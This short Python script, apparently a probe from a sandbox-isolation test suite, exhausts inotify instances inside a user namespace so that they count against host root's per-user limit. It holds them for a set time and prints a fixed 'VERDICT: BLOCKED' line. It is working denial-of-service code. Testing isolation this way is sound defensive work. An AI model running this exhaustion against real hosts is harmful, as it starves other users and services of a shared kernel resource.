"""Attack (denial of service across the boundary): exhaust a per-user kernel resource that is counted
for the user namespace's owner. The sandbox's user namespace is created by host root, and inotify
instances are charged to every level up the user-namespace chain, so instances made here also count
against host root's fs.inotify.max_user_instances (default 128). Grab all we can, say so, hold them.
argv[1]: seconds to hold."""
import ctypes
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
fds = []
while len(fds) < 4096:
    fd = libc.inotify_init1(0)
    if fd < 0:
        break
    fds.append(fd)
with open("/tmp/held", "w") as f:
    f.write(str(len(fds)))
print(f"BLOCKED: holding {len(fds)} inotify instances (the host checks its own)")
print("VERDICT: BLOCKED", flush=True)
time.sleep(float(sys.argv[1]))
